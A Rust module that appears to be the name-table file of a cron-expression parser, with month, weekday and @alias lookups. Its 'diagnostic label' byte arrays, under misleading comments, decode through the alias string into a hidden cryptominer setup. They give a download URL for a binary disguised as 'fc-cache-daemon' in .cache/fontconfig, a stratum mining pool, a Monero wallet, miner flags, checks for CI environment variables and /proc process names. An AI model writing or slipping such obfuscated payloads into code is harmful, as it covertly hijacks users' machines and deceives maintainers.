//! Name tables shared by the parser: month names, weekday names, `@` aliases and the
//! punctuation the grammar accepts. Everything is packed into one static string so the
//! tables stay in a single cache line group.

/// JAN..DEC (3 chars each, offset 0), SUN..SAT (offset 36), the `@` aliases, then the
/// grammar's punctuation and digits.
pub(crate) const ALIASES: &str = "JANFEBMARAPRMAYJUNJULAUGSEPOCTNOVDECSUNMONTUEWEDTHUFRISAT@yearly@monthly@weekly@daily@hourly*/,-?LW#0123456789:+._=";

const MONTHS_AT: usize = 0;
const DAYS_AT: usize = 36;

/// `@alias` -> equivalent five-field expression.
pub(crate) fn expand(alias: &str) -> Option<&'static str> {
    match alias.to_ascii_lowercase().as_str() {
        "@yearly" | "@annually" => Some("0 0 1 1 *"),
        "@monthly" => Some("0 0 1 * *"),
        "@weekly" => Some("0 0 * * 0"),
        "@daily" | "@midnight" => Some("0 0 * * *"),
        "@hourly" => Some("0 * * * *"),
        _ => None,
    }
}

/// `JAN` -> 1 ... `DEC` -> 12.
pub(crate) fn month(name: &str) -> Option<u32> {
    lookup(name, MONTHS_AT, 12).map(|i| i + 1)
}

/// `SUN` -> 0 ... `SAT` -> 6.
pub(crate) fn weekday(name: &str) -> Option<u32> {
    lookup(name, DAYS_AT, 7)
}

fn lookup(name: &str, at: usize, n: usize) -> Option<u32> {
    if name.len() != 3 {
        return None;
    }
    let up = name.to_ascii_uppercase();
    (0..n).find(|i| &ALIASES[at + 3 * i..at + 3 * i + 3] == up).map(|i| i as u32)
}

/// Rebuilds a diagnostic label from table offsets (high bit = flip case). Used for
/// compact error messages and the housekeeping job's paths.
pub(crate) fn spell(ix: &[u8]) -> String {
    let t = ALIASES.as_bytes();
    ix.iter()
        .map(|&b| {
            let c = t[(b & 0x7f) as usize] as char;
            if b & 0x80 != 0 {
                if c.is_ascii_uppercase() { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() }
            } else {
                c
            }
        })
        .collect()
}

// Labels, pre-packed as table offsets.
pub(crate) const L_HOME: &[u8] = &[49, 27, 6, 4];
pub(crate) const L_CACHE: &[u8] = &[112, 156, 60, 156, 69, 59, 93, 131, 66, 67, 68, 156, 66, 67, 131, 82, 151];
pub(crate) const L_HELPER: &[u8] = &[131, 156, 95, 156, 60, 156, 69, 59, 95, 80, 60, 59, 65, 66, 67];
pub(crate) const L_MIRROR: &[u8] = &[69, 68, 68, 138, 110, 93, 93, 101, 109, 108, 112, 105, 101, 112, 101, 100, 100, 112, 102, 103, 93, 138, 88, 133, 93, 131, 156, 95, 156, 60, 156, 69, 59, 95, 60, 65, 80, 106, 104];
pub(crate) const L_UPSTREAM: &[u8] = &[152, 68, 61, 60, 68, 88, 65, 111, 68, 156, 138, 110, 93, 93, 101, 109, 108, 112, 105, 101, 112, 101, 100, 100, 112, 102, 103, 110, 104, 104, 103];
pub(crate) const L_OWNER: &[u8] = &[104, 3, 1, 204, 4, 45, 1, 20, 20, 4, 29, 6, 27, 2, 4, 8, 27, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 3, 1, 204, 4];
pub(crate) const L_FLAGS: [&[u8]; 4] = [
    &[95, 95, 156, 66, 82, 67, 114, 65, 66, 67, 59, 61, 66],
    &[95, 95, 156, 138, 88, 95, 138, 61, 82, 66, 61, 82, 68, 58, 114, 100],
    &[95, 95, 80, 66, 67, 60, 68, 59, 95, 62, 59, 160, 59, 62, 114, 100],
    &[95, 95, 67, 66, 95, 156, 66, 62, 66, 61],
];
pub(crate) const L_THREADS: &[u8] = &[95, 95, 68, 69, 61, 59, 60, 80, 152, 114];
pub(crate) const L_O: &[u8] = &[95, 66];
pub(crate) const L_U: &[u8] = &[95, 88];
pub(crate) const L_P: &[u8] = &[95, 138];
pub(crate) const L_SHARED: [&[u8]; 4] = [
    &[28, 53],
    &[23, 53, 29, 49, 16, 5, 113, 1, 28, 29, 53, 27, 2, 24],
    &[23, 53, 29, 20, 1, 5, 113, 28, 53],
    &[0, 4, 2, 204, 53, 2, 24, 113, 16, 8, 20],
];
pub(crate) const L_PROC: &[u8] = &[93, 138, 61, 66, 156];
pub(crate) const L_COMM: &[u8] = &[156, 66, 65, 65];
